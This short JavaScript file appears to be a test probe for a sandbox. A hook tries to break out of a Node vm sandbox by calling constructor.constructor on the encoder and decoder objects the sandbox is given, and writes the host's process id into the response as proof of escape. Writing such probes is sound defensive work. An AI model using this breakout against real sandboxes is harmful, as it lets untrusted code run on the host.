// Takes the constructors of the text encoder and decoder.
// Class: endowments
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  for (const value of [TextDecoder, TextEncoder, new TextDecoder().decode, new TextEncoder().encode('x')]) {
    try {
      options.responseData[0].id = 'ESCAPED:' + value.constructor.constructor('return process.pid')();
    } catch {
      // a value of the hook's own realm
    }
  }
  return options.responseData;
}
